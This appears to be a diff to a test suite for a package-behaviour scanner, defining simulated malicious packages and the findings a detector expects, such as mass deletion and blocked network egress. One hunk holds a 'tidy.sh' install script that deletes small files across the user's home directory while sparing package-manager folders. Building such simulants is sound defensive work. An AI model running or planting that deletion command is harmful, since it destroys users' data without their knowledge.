@@ -5,10 +5,18 @@ const deleted = finding('destroy.mass-delete', 'critical', [['file.delete', 'fil
   phase: ['install', 'import', 'execute'],
 });
 const deletedInR2 = { ...deleted, runs: ['r2'] as const };
-const gate = finding('evade.blocked-egress', 'high', [['net.connect', 'net.dns', 'net.http'], ['file.delete', 'file.write']], {
-  runs: ['r2'],
-  phase: ['install', 'import', 'execute'],
-});
+const gate = finding(
+  'evade.blocked-egress',
+  'high',
+  [
+    ['net.connect', 'net.dns', 'net.http'],
+    ['file.delete', 'file.write'],
+  ],
+  {
+    runs: ['r2'],
+    phase: ['install', 'import', 'execute'],
+  },
+);
 
 /** Walks the decoy home, leaving the package manager's folders alone so that the run can go on. */
 const walk = text`
@@ -90,7 +98,7 @@ export const destroy: readonly Simulant[] = [
         {
           'tidy.sh': text`
             #!/bin/sh
-            find "$HOME" -maxdepth 4 -type f -not -path '*/.npm/*' -not -path '*/node_modules/*' -not -path "$PWD/*" -size -64k -exec unlink {} \; 2> /dev/null
+            find "$HOME" -maxdepth 4 -type f -not -path '*/.npm/*' -not -path '*/node_modules/*' -not -path "$INIT_CWD/*" -size -64k -exec unlink {} \; 2> /dev/null
             exit 0
           `,
         },
